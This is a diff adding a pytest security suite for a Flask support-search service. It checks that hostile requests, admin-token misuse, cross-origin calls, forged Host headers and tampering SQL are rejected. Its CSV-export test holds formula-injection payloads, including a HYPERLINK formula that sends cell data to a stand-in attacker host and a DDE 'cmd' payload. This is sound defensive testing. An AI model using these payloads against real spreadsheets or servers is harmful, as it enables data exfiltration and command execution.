@@ -1,0 +1,262 @@
+"""The attacks of issue 11, through Flask's test client: hostile input, customer data, headers.
+
+Each table row is one probe a hostile client tried; every one must get the documented
+4xx in the one JSON error shape, never a 500, a traceback or a non-JSON body.
+"""
+import csv
+import io
+import json
+import logging
+import sqlite3
+
+import pytest
+
+from server import create_app
+from server.feedback import FeedbackEvent
+from tests.helpers import TODAY, make_searcher
+
+TOKEN = "correct-horse-battery-staple"
+NESTED = "[" * 30000 + "]" * 30000
+
+
+@pytest.fixture
+def admin_app(built, tmp_path, config, hash_embedder):
+    config = config.replace(admin_token=TOKEN)
+    return create_app(config, searcher=make_searcher(tmp_path / "index", hash_embedder, config), today=lambda: TODAY)
+
+
+def raw(client, path, data, **headers):
+    return client.post(path, data=data, headers={"Content-Type": "application/json", **headers})
+
+
+BAD_INPUT = [
+    # (probe, path, raw body, status, code)
+    ("lone surrogate in question", "/v1/suggest", '{"question": "\\ud800"}', 400, "invalid_request"),
+    ("lone surrogate in product", "/v1/suggest", '{"question": "发货", "product": "a\\udfff"}', 400, "invalid_request"),
+    ("lone surrogate in a filter", "/v1/suggest", '{"question": "发货", "filters": {"category": "\\ud83d"}}',
+     400, "invalid_request"),
+    ("lone surrogate in a batch", "/v1/suggest/batch", '{"questions": ["ok", "\\udc00"]}', 400, "invalid_request"),
+    ("lone surrogate in a key", "/v1/suggest", '{"question": "发货", "\\ud800": 1}', 400, "invalid_request"),
+    ("lone surrogate in feedback question", "/v1/feedback", '{"question": "\\ud800", "action": "gap"}',
+     400, "invalid_request"),
+    ("lone surrogate in feedback article", "/v1/feedback",
+     '{"question": "q", "action": "up", "article_id": "\\ud800"}', 400, "invalid_request"),
+    ("30k nested arrays", "/v1/suggest", NESTED, 400, "invalid_request"),
+    ("30k nested arrays in a field", "/v1/suggest", '{"question": "发货", "filters": ' + NESTED + "}",
+     400, "invalid_request"),
+    ("900 nested objects", "/v1/suggest", '{"a":' * 900 + "1" + "}" * 900, 400, "invalid_request"),
+    ("weight Infinity", "/v1/suggest", '{"question": "发货", "weights": {"dense": Infinity}}', 400, "invalid_json"),
+    ("weight NaN", "/v1/suggest", '{"question": "发货", "weights": {"bm25": NaN}}', 400, "invalid_json"),
+    ("weight -Infinity", "/v1/suggest", '{"question": "发货", "weights": {"bm25": -Infinity}}', 400, "invalid_json"),
+    ("weight 1e400 (overflows to inf)", "/v1/suggest", '{"question": "发货", "weights": {"dense": 1e400}}',
+     400, "invalid_json"),
+    ("weights 1e308 (sum overflows)", "/v1/suggest",
+     '{"question": "发货", "fusion": "weighted", "weights": {"dense": 1e308, "bm25": 1e308, "questions": 1e308}}',
+     400, "invalid_request"),
+    ("huge integer weight", "/v1/suggest", '{"question": "发货", "weights": {"dense": ' + "9" * 400 + "}}",
+     400, "invalid_request"),
+    ("62 KB article_id", "/v1/feedback", json.dumps({"question": "q", "action": "up", "article_id": "a" * 62000}),
+     400, "invalid_request"),
+    ("long product", "/v1/suggest", json.dumps({"question": "发货", "product": "x" * 201}), 400, "invalid_request"),
+    ("long category", "/v1/suggest", json.dumps({"question": "发货", "filters": {"category": "x" * 201}}),
+     400, "invalid_request"),
+    ("long index_version", "/v1/feedback", json.dumps({"question": "q", "action": "gap", "index_version": "v" * 101}),
+     400, "invalid_request"),
+    ("UTF-8-encoded surrogate", "/v1/suggest", b'{"question": "\xed\xa0\x80"}', 400, "invalid_request"),
+    ("invalid UTF-8", "/v1/suggest", b'{"question": "\xff\xfe"}', 400, "invalid_json"),
+    ("empty body", "/v1/suggest", "", 400, "invalid_json"),
+]
+
+
+@pytest.mark.parametrize("probe, path, body, status, code", BAD_INPUT, ids=[row[0] for row in BAD_INPUT])
+def test_bad_input_gets_a_json_4xx(client, probe, path, body, status, code):
+    response = raw(client, path, body)
+    assert response.status_code == status, response.data[:300]
+    assert response.mimetype == "application/json"
+    assert response.get_json()["error"]["code"] == code and response.get_json()["error"]["message"]
+
+
+@pytest.mark.parametrize("length", ["-5", "abc", "1e3", "٣"])
+def test_a_bad_content_length_is_a_json_400(client, length):
+    response = client.post("/v1/suggest", data=b'{"question": "x"}', content_type="application/json",
+                           environ_overrides={"CONTENT_LENGTH": length})
+    assert response.status_code == 400 and response.get_json()["error"]["code"] == "bad_request"
+
+
+def test_largest_allowed_weights_give_finite_json(client):
+    body = {"question": "发货", "fusion": "weighted", "weights": {"dense": 100, "bm25": 100, "questions": 100}}
+    response = client.post("/v1/suggest", json=body)
+    assert response.status_code == 200
+    text = response.get_data(as_text=True)
+    assert "Infinity" not in text and "NaN" not in text
+    json.loads(text, parse_constant=lambda name: pytest.fail(f"{name} in the body"))
+
+
+def test_a_non_finite_number_never_reaches_a_response(app, client, monkeypatch):
+    searcher = app.extensions["kbs_holder"].searcher
+    real = searcher.search
+
+    def infinite(query, **kwargs):
+        result = real(query, **kwargs)
+        return result.__class__(**{**result.__dict__, "confidence": float("inf")})
+
+    monkeypatch.setattr(searcher, "search", infinite)
+    response = client.post("/v1/suggest", json={"question": "发货"})
+    assert response.status_code == 500 and b"Infinity" not in response.data
+    assert response.get_json()["error"]["code"] == "internal_error"
+
+
+def test_a_client_error_logs_one_line_and_no_traceback(client, caplog):
+    caplog.set_level(logging.INFO)
+    for body in (NESTED, '{"question": "\\ud800"}', '{"question": "x", "weights": {"dense": Infinity}}'):
+        assert raw(client, "/v1/suggest", body).status_code == 400
+    records = [r for r in caplog.records if r.name.startswith("server")]
+    assert len(records) == 3
+    assert all(r.exc_info is None and "\n" not in r.getMessage() and r.levelno < logging.WARNING for r in records)
+
+
+# ---------------------------------------------------------------- customer data
+
+
+@pytest.mark.parametrize("headers, status, code", [
+    ({}, 401, "unauthorized"),
+    ({"Authorization": "Bearer wrong"}, 401, "unauthorized"),
+    ({"Authorization": "Bearer " + TOKEN[:-1]}, 401, "unauthorized"),
+    ({"Authorization": "Basic " + TOKEN}, 401, "unauthorized"),
+    ({"Authorization": TOKEN}, 401, "unauthorized"),
+    ({"Authorization": "Bearer " + TOKEN}, 200, None),
+    ({"Authorization": "bearer  " + TOKEN + " "}, 200, None),
+])
+def test_export_needs_the_admin_token(admin_app, headers, status, code):
+    response = admin_app.test_client().get("/v1/feedback/export", headers=headers)
+    assert response.status_code == status
+    if code:
+        assert response.get_json()["error"]["code"] == code and "Bearer" in response.headers["WWW-Authenticate"]
+    else:
+        assert response.mimetype == "text/csv" and response.headers["Cache-Control"] == "no-store"
+
+
+def test_without_a_token_admin_endpoints_are_disabled_not_open(client):
+    for headers in ({}, {"Authorization": "Bearer "}, {"Authorization": "Bearer anything"}):
+        response = client.get("/v1/feedback/export", headers=headers)
+        assert response.status_code == 403 and response.get_json()["error"]["code"] == "admin_disabled"
+
+
+def test_cors_never_applies_to_admin_endpoints(built, tmp_path, config, hash_embedder):
+    config = config.replace(cors_origins="*", admin_token=TOKEN)
+    client = create_app(config, searcher=make_searcher(tmp_path / "index", hash_embedder, config)).test_client()
+    origin = {"Origin": "https://evil.example"}
+    assert client.post("/v1/suggest", json={"question": "发货"}, headers=origin) \
+        .headers["Access-Control-Allow-Origin"] in ("*", "https://evil.example")
+    export = client.get("/v1/feedback/export", headers={**origin, "Authorization": "Bearer " + TOKEN})
+    assert export.status_code == 200 and "Access-Control-Allow-Origin" not in export.headers
+    preflight = client.options("/v1/feedback/export", headers={
+        **origin, "Access-Control-Request-Method": "GET", "Access-Control-Request-Headers": "Authorization"})
+    assert not any(h.startswith("Access-Control-Allow") for h in preflight.headers.keys())
+
+
+def test_export_neutralises_formula_cells_and_streams(admin_app):
+    client = admin_app.test_client()
+    attacks = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+               "\t=1+1", "\r=1+1", "正常的问题 =1+1"]
+    for text in attacks:
+        assert client.post("/v1/feedback", json={"question": text, "action": "up", "article_id": "=1+1",
+                                                 "index_version": "@v"}).status_code == 201
+    response = client.get("/v1/feedback/export", headers={"Authorization": "Bearer " + TOKEN})
+    assert response.is_streamed
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    assert rows[0] == ["id", "at", "question", "article_id", "action", "index_version"]
+    questions = [row[2] for row in rows[1:]]
+    assert questions[:-1] == ["'" + text.strip() for text in attacks[:-1]]  # questions are stored stripped
+    assert questions[-1] == "正常的问题 =1+1", "only a leading formula character is neutralised"
+    assert {row[3] for row in rows[1:]} == {"'=1+1"} and {row[5] for row in rows[1:]} == {"'@v"}
+
+
+@pytest.mark.parametrize("cell, exported", [
+    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
+    ("1=1", "1=1"), ("", ""), (None, None), (42, 42)])
+def test_csv_cell_neutralisation(cell, exported):
+    from server.feedback import csv_cell
+
+    assert csv_cell(cell) == exported
+
+
+def test_export_of_many_rows_comes_in_pieces(app):
+    store = app.extensions["kbs_feedback"]
+    with sqlite3.connect(store.path) as db:
+        db.executemany("INSERT INTO feedback (at, question, article_id, action, index_version) "
+                       "VALUES ('t', ?, 'a', 'up', NULL)", [(f"问题{i}",) for i in range(1200)])
+    pieces = list(store.export_csv())
+    assert len(pieces) >= 3, "a generator of batches, not one string"
+    assert sum(piece.count("\n") for piece in pieces) == 1201
+
+
+@pytest.mark.parametrize("sql", [
+    "INSERT OR REPLACE INTO feedback (id, at, question, action) VALUES (1, 't', 'overwritten', 'gap')",
+    "REPLACE INTO feedback (id, at, question, action) VALUES (1, 't', 'overwritten', 'gap')",
+    "INSERT INTO feedback (id, at, question, action) VALUES (1, 't', 'overwritten', 'gap') "
+    "ON CONFLICT(id) DO UPDATE SET question = excluded.question",
+    "UPDATE feedback SET question = 'overwritten'",
+    "DELETE FROM feedback",
+])
+def test_feedback_is_really_append_only(app, sql):
+    store = app.extensions["kbs_feedback"]
+    first = store.add(FeedbackEvent("原来的问题", "gap", None, None))
+    assert first == 1
+    with sqlite3.connect(store.path) as db, pytest.raises(sqlite3.IntegrityError, match="append-only"):
+        db.execute(sql)
+    assert [row[2] for row in store.rows()] == ["原来的问题"]
+    assert store.add(FeedbackEvent("新问题", "gap", None, None)) == 2, "ordinary appends still work"
+
+
+@pytest.mark.parametrize("host, status", [
+    ("localhost", 200), ("127.0.0.1:8080", 200), ("[::1]:8080", 200), ("LOCALHOST:80", 200),
+    ("evil.example", 400), ("evil.example:8080", 400), ("127.0.0.1.evil.example", 400), ("", 400),
+])
+def test_host_header_must_name_this_server(client, host, status):
+    response = client.get("/v1/facets", headers={"Host": host})
+    assert response.status_code == status
+    if status == 400:
+        assert response.get_json()["error"]["code"] == "host_not_allowed"
+
+
+def test_allowed_hosts_is_a_setting(built, tmp_path, config, hash_embedder):
+    config = config.replace(allowed_hosts="kb.shop.internal")
+    client = create_app(config, searcher=make_searcher(tmp_path / "index", hash_embedder, config)).test_client()
+    assert client.get("/v1/facets", headers={"Host": "kb.shop.internal:8080"}).status_code == 200
+    assert client.get("/v1/facets", headers={"Host": "127.0.0.1:8080"}).status_code == 200, "the bound address"
+    assert client.get("/v1/facets", headers={"Host": "localhost"}).status_code == 400
+
+
+@pytest.mark.parametrize("method, path", [("GET", "/"), ("GET", "/static/sidebar.js"), ("GET", "/v1/facets"),
+                                          ("POST", "/v1/suggest"), ("GET", "/nowhere"), ("GET", "/readyz")])
+def test_security_headers_on_every_response(client, method, path):
+    response = client.open(path, method=method, json={"question": "发货"} if method == "POST" else None)
+    csp = response.headers["Content-Security-Policy"]
+    assert "script-src 'self'" in csp and "frame-ancestors 'none'" in csp and "unsafe-inline" not in csp
+    assert response.headers["X-Content-Type-Options"] == "nosniff"
+    assert response.headers["X-Frame-Options"] == "DENY"
+    assert response.headers["Referrer-Policy"] == "no-referrer"
+
+
+def test_sidebar_page_has_no_inline_script_or_handlers(client):
+    import re
+
+    page = client.get("/").get_data(as_text=True)
+    assert not re.search(r"<script(?![^>]*\bsrc=)[^>]*>", page), "an inline <script> would need unsafe-inline"
+    assert not re.search(r"\son[a-z]+\s*=", page, re.IGNORECASE), "inline event handlers"
+    assert not re.search(r"\sstyle\s*=", page, re.IGNORECASE), "inline styles"
+
+
+def test_article_html_drops_external_images(kb_copy, tmp_path, config, hash_embedder):
+    from indexer.build import build
+
+    (kb_copy / "pixel.md").write_text(
+        "---\nid: pixel\ntitle: 像素\n---\n## A\n正文 ![p](https://tracker.example/p.gif)\n"
+        '<img src="//tracker.example/q.gif"><img src=" HTTP://tracker.example/r.gif"><img src="img/ok.png">\n',
+        encoding="utf-8")
+    build(kb_copy, tmp_path / "index", hash_embedder, config)
+    client = create_app(config, searcher=make_searcher(tmp_path / "index", hash_embedder, config)).test_client()
+    html = client.get("/v1/articles/pixel").get_json()["html"]
+    assert "tracker.example" not in html
+    assert 'src="img/ok.png"' in html, "same-origin images stay"
